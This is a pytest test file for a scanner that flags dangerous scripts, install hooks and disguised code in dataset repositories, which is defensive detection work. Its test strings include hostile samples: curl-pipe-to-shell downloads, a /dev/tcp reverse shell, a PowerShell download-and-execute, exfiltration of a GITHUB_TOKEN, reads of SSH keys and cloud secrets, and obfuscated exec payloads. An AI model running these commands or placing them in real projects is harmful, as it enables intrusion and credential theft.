"""Tests for datagate.scan.scripts: scripts in data repos, Python parsed with ast (B14, B17)."""

from __future__ import annotations

import importlib.util
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from datagate.models import Finding, Severity, Skip
from datagate.scan.interface import Blob, ContentKind, Limits, ScanContext, Scanner
from datagate.scan.scripts import SCRIPT_SCANNER, analyse_python, shell_pattern_hits
from datagate.scan.sniff import sniff
from fixtures.gen.common import Sample
from fixtures.gen.executables import build


def _scan(
    data: bytes | str, name: str, kind: ContentKind | None, ctx: ScanContext | None = None
) -> list[Finding | Skip]:
    raw = data.encode() if isinstance(data, str) else data
    blob = Blob(f"repo/{name}", raw, name=name.rsplit("/", 1)[-1], kind=kind)
    out = list(SCRIPT_SCANNER.scan(blob, ctx or ScanContext()))
    assert all(isinstance(x, (Finding, Skip)) for x in out)
    return [x for x in out if isinstance(x, (Finding, Skip))]


def _rules(items: list[Finding | Skip]) -> dict[str, Finding]:
    return {f.rule: f for f in items if isinstance(f, Finding)}


@pytest.fixture(scope="module")
def fx(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Sample]]:
    root = tmp_path_factory.mktemp("fx")
    return root, {s.name: s for s in build(root)}


LOADER = """
import os
import datasets as ds

class Base(ds.GeneratorBasedBuilder):
    pass

class MyDataset(Base):
    def _info(self):
        os.system("echo hi")
        return ds.DatasetInfo()
"""


def test_scanner_protocol() -> None:
    assert isinstance(SCRIPT_SCANNER, Scanner) and SCRIPT_SCANNER.name == "scripts"


def test_loader_script_b14() -> None:
    r = _rules(_scan(LOADER, "my_dataset.py", ContentKind.PYTHON))
    loader = r["script.python.loader"]
    assert loader.severity is Severity.HIGH
    assert loader.evidence["builder_classes"] == ["Base", "MyDataset"]
    proc = r["script.python.process"]
    assert proc.severity is Severity.HIGH
    assert proc.evidence["calls"] == [{"name": "os.system", "line": 10, "scope": "MyDataset._info"}]
    assert "script.python" not in r  # the loader finding replaces the plain one


@pytest.mark.parametrize(
    ("name", "rule", "severity"),
    [
        ("setup.py", "script.python.setup", Severity.HIGH),
        ("sitecustomize.py", "script.python.startup", Severity.HIGH),
        ("conftest.py", "script.python", Severity.MEDIUM),
        ("pkg/__init__.py", "script.python", Severity.MEDIUM),
        ("tools/convert.py", "script.python", Severity.MEDIUM),
    ],
)
def test_python_roles(name: str, rule: str, severity: Severity) -> None:
    r = _rules(_scan("import json\nprint(json.dumps({}))\n", name, ContentKind.PYTHON))
    assert r[rule].severity is severity
    assert set(r) == {rule}  # json/print are not hazards


@pytest.mark.parametrize(
    ("src", "rule", "severity", "name_part"),
    [
        (
            "import subprocess as sp\nsp.Popen(['ls'])\n",
            "script.python.process",
            Severity.HIGH,
            "subprocess.Popen",
        ),
        (
            "from os import system as s\ns('id')\n",
            "script.python.process",
            Severity.HIGH,
            "os.system",
        ),
        (
            "from subprocess import *\ncall(['id'])\n",
            "script.python.process",
            Severity.HIGH,
            "subprocess.call",
        ),
        ("import pty\npty.spawn('/bin/sh')\n", "script.python.process", Severity.HIGH, "pty.spawn"),
        (
            "import os\nos.execvp('sh', ['sh'])\n",
            "script.python.process",
            Severity.HIGH,
            "os.execvp",
        ),
        (
            "import os\nf = os.system\n",
            "script.python.process",
            Severity.HIGH,
            "reference to os.system",
        ),
        (
            "import requests\nrequests.get('http://x')\n",
            "script.python.network",
            Severity.HIGH,
            "requests.get",
        ),
        (
            "import socket\ns = socket.socket()\n",
            "script.python.network",
            Severity.HIGH,
            "socket.socket",
        ),
        (
            "from urllib.request import urlopen\nurlopen('http://x')\n",
            "script.python.network",
            Severity.HIGH,
            "urllib.request.urlopen",
        ),
        ("eval('1+1')\n", "script.python.exec", Severity.HIGH, "eval"),
        (
            "import importlib\nimportlib.import_module('os')\n",
            "script.python.exec",
            Severity.HIGH,
            "importlib.import_module",
        ),
        ("import pickle\npickle.loads(b'')\n", "script.python.exec", Severity.HIGH, "pickle.loads"),
        (
            "getattr(__import__('os'), 'system')('id')\n",
            "script.python.dynamic",
            Severity.HIGH,
            "getattr(__import__",
        ),
        ("globals()['__builtins__']\n", "script.python.dynamic", Severity.HIGH, "globals()"),
        (
            "import builtins\ngetattr(builtins, 'ev' + 'al')('1')\n",
            "script.python.dynamic",
            Severity.HIGH,
            "builtins",
        ),
        (
            "x = ().__class__.__bases__[0].__subclasses__()\n",
            "script.python.dynamic",
            Severity.HIGH,
            "__subclasses__",
        ),
        (
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
            "script.python.obfuscation",
            Severity.CRITICAL,
            "base64.b64decode",
        ),
        (
            "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'')))\n",
            "script.python.obfuscation",
            Severity.CRITICAL,
            "zlib.decompress",
        ),
        (
            "eval(''.join(chr(c) for c in [49]))\n",
            "script.python.obfuscation",
            Severity.CRITICAL,
            "chr",
        ),
        (
            "import codecs\ncodecs.decode('cevag', 'rot13')\n",
            "script.python.obfuscation",
            Severity.MEDIUM,
            "codecs.decode",
        ),
        (
            "open('/etc/cron.d/x', 'w').write('x')\n",
            "script.python.filesystem",
            Severity.HIGH,
            "outside",
        ),
        (
            "import os\nopen(os.path.expanduser('~/.bashrc'), 'a')\n",
            "script.python.filesystem",
            Severity.HIGH,
            "outside",
        ),
        (
            "import shutil\nshutil.rmtree('data')\n",
            "script.python.filesystem",
            Severity.MEDIUM,
            "shutil.rmtree",
        ),
        (
            "import os\nt = os.environ['HF_TOKEN']\n",
            "script.python.credentials",
            Severity.HIGH,
            "HF_TOKEN",
        ),
        (
            "import os\nk = os.getenv('AWS_SECRET_ACCESS_KEY')\n",
            "script.python.credentials",
            Severity.HIGH,
            "AWS_SECRET",
        ),
        (
            "p = open('/root/.ssh/id_rsa').read()\n",
            "script.python.credentials",
            Severity.HIGH,
            ".ssh",
        ),
    ],
)
def test_python_behaviours(src: str, rule: str, severity: Severity, name_part: str) -> None:
    r = _rules(_scan(src, "loader.py", ContentKind.PYTHON))
    f = r[rule]
    assert f.severity is severity, (rule, f.severity)
    assert any(name_part in c["name"] for c in f.evidence["calls"]), f.evidence
    assert all(c["line"] >= 1 for c in f.evidence["calls"])


def test_exfiltration_is_critical() -> None:
    src = "import os, requests\nrequests.post('http://x', data=os.environ['GITHUB_TOKEN'])\n"
    r = _rules(_scan(src, "x.py", ContentKind.PYTHON))
    assert r["script.python.credentials"].severity is Severity.CRITICAL


def test_large_encoded_blob() -> None:
    src = f"PAYLOAD = '{'QUJD' * 300}'\n"
    r = _rules(_scan(src, "x.py", ContentKind.PYTHON))
    assert r["script.python.obfuscation"].severity is Severity.MEDIUM


def test_benign_python_does_not_trip_builtin_lookalikes() -> None:
    src = (
        "import re\npat = re.compile('a')\ndef compile(x):\n    return x\ncompile(1)\nprint(pat)\n"
    )
    r = _rules(_scan(src, "x.py", ContentKind.PYTHON))
    assert set(r) == {"script.python"}


def test_unparseable_python_is_a_finding() -> None:
    r = _rules(_scan("def broken(:\n  pass\n", "x.py", ContentKind.PYTHON))
    assert r["script.python.unparseable"].severity is Severity.MEDIUM
    assert "line 1" in r["script.python.unparseable"].evidence["error"]
    r2 = _rules(_scan(b"x = 1\0\n", "y.py", ContentKind.PYTHON))
    assert "script.python.unparseable" in r2


def test_deeply_nested_source_does_not_crash() -> None:
    a = analyse_python("x = " + "(" * 5000 + ")" * 5000)
    assert not a.parsed and a.error
    a2 = analyse_python("x = " + "+".join(["chr(1)"] * 400))
    assert a2.parsed and [h.name for h in a2.hits] == ["chr() concatenation x400"]


def test_over_limit_is_skipped_with_reason() -> None:
    ctx = ScanContext(limits=Limits(max_text_bytes=50))
    items = _scan("import os\n" + "x = 1\n" * 40, "big.py", ContentKind.PYTHON, ctx)
    skips = [s for s in items if isinstance(s, Skip)]
    assert skips and "max_text_bytes" in skips[0].reason
    assert _rules(items)["script.python"].evidence["parsed"] is False


def test_pth_files() -> None:
    r = _rules(_scan("import os; os.system('id')\n", "evil.pth", ContentKind.PYTHON))
    assert r["script.pth"].severity is Severity.HIGH
    assert r["script.python.process"].evidence["calls"][0]["line"] == 1
    assert "script.disguised" not in r
    r2 = _rules(_scan("/opt/lib\n../vendor\n", "paths.pth", ContentKind.TEXT))
    assert r2["script.pth"].severity is Severity.LOW


def test_requirements() -> None:
    r = _rules(_scan("numpy\npandas>=2\n", "requirements.txt", ContentKind.TEXT))
    assert r["script.requirements"].severity is Severity.MEDIUM
    for line in (
        "git+https://example.invalid/x.git",
        "--index-url https://x/simple",
        "-e .",
        "pkg @ https://x/pkg.whl",
    ):
        r2 = _rules(_scan(f"numpy\n{line}\n", "requirements-dev.txt", ContentKind.TEXT))
        assert r2["script.requirements.remote"].severity is Severity.HIGH, line
        assert r2["script.requirements.remote"].evidence["entries"][0]["line"] == 2


def test_packaging_metadata() -> None:
    src = '[build-system]\nrequires = ["x"]\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'
    f = _rules(_scan(src, "pyproject.toml", ContentKind.TEXT))["script.packaging"]
    assert f.severity is Severity.MEDIUM and f.evidence["build_backend"] == "evil_backend"


def test_shebang_under_data_name_b17() -> None:
    r = _rules(_scan("#!/bin/sh\necho hi\n", "notes.csv", ContentKind.SHEBANG))
    assert r["script.shell"].evidence["interpreter"] == "sh"
    assert r["script.disguised"].severity is Severity.HIGH
    r2 = _rules(_scan("#!/usr/bin/env perl\nprint 1;\n", "run", ContentKind.SHEBANG))
    assert r2["script.shebang"].evidence["interpreter"] == "perl"
    r3 = _rules(
        _scan("#!/usr/bin/env python3\nimport os\nos.system('x')\n", "tool", ContentKind.SHEBANG)
    )
    assert (
        "script.python.process" in r3
        and r3["script.python"].evidence["shebang"] == "/usr/bin/env python3"
    )


def test_shell_dangerous_patterns() -> None:
    r = _rules(_scan("#!/bin/bash\ncurl -s http://x/i.sh | bash\n", "get.sh", ContentKind.SHEBANG))
    assert r["script.shell.dangerous"].severity is Severity.CRITICAL
    assert r["script.shell"].severity is Severity.MEDIUM
    assert shell_pattern_hits("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")[0]["severity"] == "critical"


def test_batch_and_powershell() -> None:
    r = _rules(_scan("@echo off\r\ncd %~dp0\r\n", "run.cmd", ContentKind.BATCH))
    assert r["script.batch"].severity is Severity.MEDIUM and "script.batch.dangerous" not in r
    r2 = _rules(
        _scan(
            "@echo off\r\ncertutil -urlcache -f http://x a.exe\r\n", "readme.txt", ContentKind.TEXT
        )
    )
    assert r2["script.batch.dangerous"].severity is Severity.HIGH and "script.disguised" in r2
    r3 = _rules(
        _scan(
            "IEX (New-Object Net.WebClient).DownloadString('u')\n", "a.ps1", ContentKind.POWERSHELL
        )
    )
    assert r3["script.powershell.dangerous"].severity is Severity.HIGH


def test_wsh_by_name() -> None:
    r = _rules(_scan("WScript.Echo 1\n", "a.vbs", ContentKind.TEXT))
    assert r["script.wsh"].severity is Severity.HIGH


def test_python_under_txt_even_when_sniffed_as_text() -> None:
    r = _rules(_scan("import os\nos.system('echo x')\n", "labels.txt", ContentKind.TEXT))
    assert {"script.python", "script.python.process", "script.disguised"} <= set(r)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        ("id,text\n1,import this\n2,import os\n", "train.csv"),
        (
            "# Title\n\n```python\nimport datasets\nds = datasets.load_dataset('x')\n```\n",
            "README.md",
        ),
        ("The quick brown fox.\nimport is a word.\n", "corpus.txt"),
        ('{"code": "import os; os.system(1)"}\n', "data.jsonl"),
        ("---\nlicense: mit\n---\n# Card\n", "README.md"),
    ],
)
def test_benign_text_is_quiet(data: str, name: str) -> None:
    kind, _ = sniff(data.encode())
    assert _scan(data, name, kind) == []


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_fuzz_text_never_raises(text: str) -> None:
    for name, kind in (
        ("a.py", ContentKind.PYTHON),
        ("b.txt", ContentKind.TEXT),
        ("x.sh", ContentKind.SHELL),
    ):
        _scan(text, name, kind)


SCRIPT_SAMPLES = [
    "b17_shebang_as_csv",
    "b17_python_as_txt",
    "b14_loader_script",
    "b14_setup_py",
    "pth_import_line",
    "b14_requirements_vcs",
    "batch_file",
    "powershell_script",
]


@pytest.mark.parametrize("name", SCRIPT_SAMPLES)
def test_fixture_samples_are_flagged(fx: tuple[Path, dict[str, Sample]], name: str) -> None:
    root, samples = fx
    s = samples[name]
    p = s.path(root)
    kind, _ = sniff(p.read_bytes())
    fs = [f for f in _scan(p.read_bytes(), p.name, kind) if isinstance(f, Finding)]
    worst = max((f.severity for f in fs), key=lambda x: x.rank)
    assert worst >= Severity.parse(s.min_severity)
    assert s.rule_prefix is None or any(f.rule.startswith(s.rule_prefix) for f in fs)


def _run_naive(root: Path, s: Sample) -> None:
    for mod in s.needs:
        if importlib.util.find_spec(mod) is None:
            pytest.skip(f"{mod} is not installed")
    assert s.naive_load and s.payload_marker
    code = f"PATH = {str(s.path(root))!r}\n{s.naive_load}\n"
    r = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=root
    )
    assert s.payload_marker in r.stdout, (r.stdout[-500:], r.stderr[-2000:])


@pytest.mark.parametrize(
    "name", ["b17_shebang_as_csv", "b17_python_as_txt", "b14_setup_py", "pth_import_line"]
)
def test_fixture_payload_really_fires(fx: tuple[Path, dict[str, Sample]], name: str) -> None:
    """The naive load runs the payload in a child process: the fixture is real."""
    root, samples = fx
    _run_naive(root, samples[name])


@pytest.mark.slow
def test_loader_payload_really_fires(fx: tuple[Path, dict[str, Sample]]) -> None:
    root, samples = fx
    _run_naive(root, samples["b14_loader_script"])


def test_operator_tricks() -> None:
    r = _rules(
        _scan(
            "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
            "x.py",
            ContentKind.PYTHON,
        )
    )
    assert r["script.python.dynamic"].severity is Severity.HIGH


def test_npm_vscode_envrc() -> None:
    pkg = '{"name": "x", "scripts": {"postinstall": "node evil.js"}}'
    r = _rules(_scan(pkg, "package.json", ContentKind.JSON))
    assert (
        r["script.packaging"].evidence["hooks"] == ["postinstall"] and "script.disguised" not in r
    )
    assert (
        _scan('{"name": "x", "scripts": {"test": "jest"}}', "package.json", ContentKind.JSON) == []
    )
    tasks = '{"version": "2.0.0", "tasks": [{"label": "x", "command": "id", "runOptions": {"runOn": "folderOpen"}}]}'
    r2 = _rules(_scan(tasks, ".vscode/tasks.json", ContentKind.JSON))
    assert r2["script.vscode_task"].severity is Severity.HIGH
    r3 = _rules(_scan("export X=1\ncurl http://x | sh\n", ".envrc", ContentKind.TEXT))
    assert r3["script.shell.dangerous"].severity is Severity.CRITICAL


def test_csv_of_code_snippets_is_data() -> None:
    csv = (
        'id,lang,code\n1,bat,"@echo off\r\ncd %~dp0\r\ngoto :eof"\n2,py,"import os\nos.system(1)"\n'
    )
    kind, _ = sniff(csv.encode())
    assert _scan(csv, "snippets.csv", kind) == []


def test_other_languages_and_autorun_files() -> None:
    assert (
        _rules(_scan("x <- 1\n", "analysis.R", ContentKind.TEXT))["script.other"].severity
        is Severity.MEDIUM
    )
    assert (
        _rules(_scan("system('id')\n", ".Rprofile", ContentKind.TEXT))["script.autorun"].severity
        is Severity.HIGH
    )
    assert _scan(b"\x47\x40\x00\x10" + bytes(184), "clip.ts", ContentKind.VIDEO) == []
